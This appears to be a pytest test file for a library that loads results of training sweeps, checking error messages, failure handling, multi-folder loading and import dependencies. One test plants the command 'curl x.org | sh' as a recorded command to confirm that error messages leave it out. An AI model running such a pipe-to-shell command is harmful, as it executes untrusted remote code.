import ast
import dataclasses
import shutil
import subprocess
import sys
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

import jaxattn as ja
import jaxattn.lab.results
from jaxattn.lab.storage.batch_record import Failure


@pytest.fixture
def folder(folders, tmp_path):
    return Path(shutil.copytree(folders["text"], tmp_path / "run"))


def test_rows_include_the_axis_values_of_their_cell(results):
    run = results["failed"]
    assert run.axes == ["data.kind", "model.dim", "phases.embed.step_size"]
    joined = run.with_axes(run.records)
    assert list(joined.columns) == ["cell", *run.axes, "seed", "phase", "step", "metric", "value"]
    assert len(joined) == len(run.records)
    row = joined[joined["cell"] == 5].iloc[0]
    assert (row["data.kind"], row["model.dim"], row["phases.embed.step_size"]) == ("b", 64, 100.0)
    assert list(run.with_axes(joined).columns) == list(joined.columns)
    assert results["text"].with_axes(results["text"].records) is results["text"].records


def test_phases_are_in_run_order(results):
    assert results["one_seed"].phases == ["embed", "joint", "late"]


def test_values_after_a_failure_are_nan(folder, batch_of, batches):
    raw = pd.read_parquet(batch_of(folder) / "records.parquet")
    assert raw["value"].notna().any()
    failure = Failure(cell=0, seed=2, phase="embed", step=1, reason="loss is not finite")
    batches.change(batch_of(folder), failures=(failure,))
    records = ja.load(folder).records
    seed = records["seed"] == 2
    before = (records["phase"] == "embed") & (records["step"] < 1)
    assert records.loc[seed & ~before, "value"].isna().all()
    kept = ~seed | before
    np.testing.assert_array_equal(records.loc[kept, "value"], raw.loc[kept, "value"])


def test_missing_and_unrelated_folders_are_rejected(tmp_path):
    with pytest.raises(ja.InputError, match="no such folder"):
        ja.load(tmp_path / "none")
    with pytest.raises(ja.InputError, match=r"no study\.json"):
        ja.load(tmp_path)


def test_error_for_an_unfinished_run_names_its_folder_but_not_the_recorded_command(
    folder, batch_of, change_study
):
    change_study(folder, command="curl x.org | sh")
    (batch_of(folder) / "records.parquet").unlink()
    with pytest.raises(ja.InputError, match=rf"missing; run the same sweep again into {folder}$"):
        ja.load(folder)
    shutil.rmtree(batch_of(folder))
    with pytest.raises(
        ja.InputError, match=rf"has no measurements yet; run the same sweep again into {folder}$"
    ):
        ja.load(folder)


@pytest.mark.parametrize("table", ["records", "tokens"])
def test_damaged_table_raises_a_one_line_error(folder, batch_of, table):
    path = batch_of(folder) / f"{table}.parquet"
    content = bytearray(path.read_bytes())
    content[len(content) // 3] ^= 1
    path.write_bytes(content)
    with pytest.raises(
        ja.InputError, match=rf"{table}\.parquet: damaged .*; run the same sweep again into"
    ) as caught:
        ja.load(folder)
    assert "\n" not in str(caught.value)


def test_missing_column_raises(folder, batch_of, rewrite):
    records = pd.read_parquet(batch_of(folder) / "records.parquet")
    rewrite(folder, "records", records.drop(columns="metric"))
    with pytest.raises(ja.InputError, match="no column 'metric'"):
        ja.load(folder)


@pytest.mark.parametrize("text", ["{", "[]", "{}", '{"name": "x"}'])
def test_damaged_study_is_rejected(folder, text):
    (folder / "study.json").write_text(text)
    with pytest.raises(ja.InputError, match=r"study\.json: ") as caught:
        ja.load(folder)
    assert "\n" not in str(caught.value)


def test_unknown_cell_is_rejected(results):
    with pytest.raises(ja.InputError, match=r"cell 9: .* has only cells 0 to 3"):
        results["dims"].settings(9)
    chosen = results["dims"].choose(where={"model.dim": 256})
    with pytest.raises(ja.InputError, match=r"cell 0: .* has only cells 2$"):
        chosen.settings(0)


def imported(tree):
    for node in tree:
        names = [alias.name for alias in node.names] if isinstance(node, ast.Import) else []
        yield from names + ([node.module or ""] if isinstance(node, ast.ImportFrom) else [])


def test_results_package_does_not_import_jax_or_higher_level_modules():
    for path in Path(jaxattn.lab.results.__file__).parent.glob("*.py"):
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for name in imported(ast.walk(tree)):
            package = ".".join(name.split(".")[: 3 if name.startswith("jaxattn.lab.") else 2])
            # Only trained parameters and data need JAX.
            of_arrays = dict.fromkeys(
                ("params.py", "rebuilt.py"),
                ("jaxattn.base", "jaxattn.data", "jaxattn.models", "jaxattn.lab.study"),
            )
            below = package in (
                "jaxattn.lab.results",
                "jaxattn.lab.kinds",
                "jaxattn.lab.storage",
                "jaxattn.core",
                *of_arrays.get(path.name, ()),
            )
            # The settings of a cell are derived from plain tables.
            below |= name == "jaxattn.lab.study.effective"
            assert name.split(".")[0] != "jax" or path.name in of_arrays, f"{path.name} imports {name}"
            assert not name.startswith("jaxattn") or below, path.name
            assert name != "matplotlib.pyplot", path.name
        slow = {"matplotlib", "scipy", "jinja2", "orbax", "jaxattn.lab.figures.style"}
        slow |= {"jaxattn.lab.results.params"}
        drawing = "from jaxattn.lab.figures.style" in path.read_text(encoding="utf-8") or path.name in (
            "style.py",
            "report.py",
        )
        for name in [] if drawing else imported(tree.body):
            assert name not in slow, path.name
            assert name.split(".")[0] not in slow, path.name


def test_loading_does_not_import_jax_or_matplotlib():
    """They take a second to import, so they are imported only for parameters and for drawing."""
    code = (
        "import sys; before = set(sys.modules); import jaxattn.lab.loaded; "
        "print([x for x in ('jax', 'matplotlib', 'jinja2', 'orbax') if x in set(sys.modules) - before])"
    )
    found = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert found.stdout.strip() == "[]"


@pytest.fixture
def parts(load_planted):
    """Write two folders with the same cells and different seeds."""

    def make(seeds):
        cells = [
            {"cell": k, "settings": {"model.dim": d, "loss": "hinge"}, "config_hash": str(d)}
            for k, d in enumerate((8, 16))
        ]
        rows = [
            (cell, seed, phase, step, "loss", 100.0 * cell + 10 * seed + step)
            for phase in ("embed", "query")
            for cell in (0, 1)
            for seed in seeds
            for step in (0, 5 + cell)
        ]
        rows += [(1, seed, "query", 6, "margin", 0.5) for seed in seeds]
        config = {"model": {"kind": "one_layer", "dim": 4}, "phases": [{"name": "embed"}, {"name": "query"}]}
        return load_planted(
            rows, name="x", config=config, cells=cells, seeds=list(seeds), failures=[]
        ).directory

    return [make([0, 2]), make([1])]


def test_several_folders_load_as_one(parts, tmp_path):
    both = ja.load(parts)
    assert sorted(both.records["seed"].unique()) == [0, 1, 2]
    for k, part in enumerate(parts):
        (tmp_path / f"part-{1 - k}").symlink_to(part)
    again = ja.load(tmp_path / "part-*")
    pd.testing.assert_frame_equal(both.records, again.records)
    with pytest.raises(ja.InputError, match="seed 0 is also in"):
        ja.load([parts[0], str(parts[0])])
    with pytest.raises(ja.InputError, match=r"none-\*: no folder matches"):
        ja.load([tmp_path / "none-*"])
    with pytest.raises(ja.InputError, match="at least one results folder"):
        ja.load([])


def test_table_has_a_row_per_run_with_its_settings_and_last_metrics(parts):
    table = ja.load(parts).table()
    assert table[["cell", "seed"]].to_numpy().tolist() == [[c, s] for c in (0, 1) for s in (0, 1, 2)]
    assert table["model.dim"].tolist() == [8] * 3 + [16] * 3
    assert table["model.kind"].tolist() == ["one_layer"] * 6
    assert table["loss (setting)"].tolist() == ["hinge"] * 6
    assert table["loss"].tolist() == [100 * c + 10 * s + 5 + c for c in (0, 1) for s in (0, 1, 2)]
    np.testing.assert_array_equal(table["margin"], [np.nan] * 3 + [0.5] * 3)
    with pytest.raises(ja.InputError, match="walk"):
        ja.load(parts).table(phase="walk")


def test_table_of_several_folders_has_the_name_of_each_study(parts, folders):
    assert ja.load(parts).table()["sweep"].tolist() == ["x"] * 6
    assert "sweep" not in ja.load(parts[0]).table()
    table = ja.load([parts[0], folders["text"]]).table(phase="embed")
    assert set(table["sweep"]) == {"x", "planted"}


def test_table_has_the_block_of_each_run(results):
    run = results["dims"]
    cells = [cell | {"settings": {"block": str(cell["cell"])}} for cell in run.manifest["cells"]]
    table = dataclasses.replace(run, manifest=run.manifest | {"cells": cells}).table()
    assert table["block"].tolist() == table["cell"].astype(str).tolist()
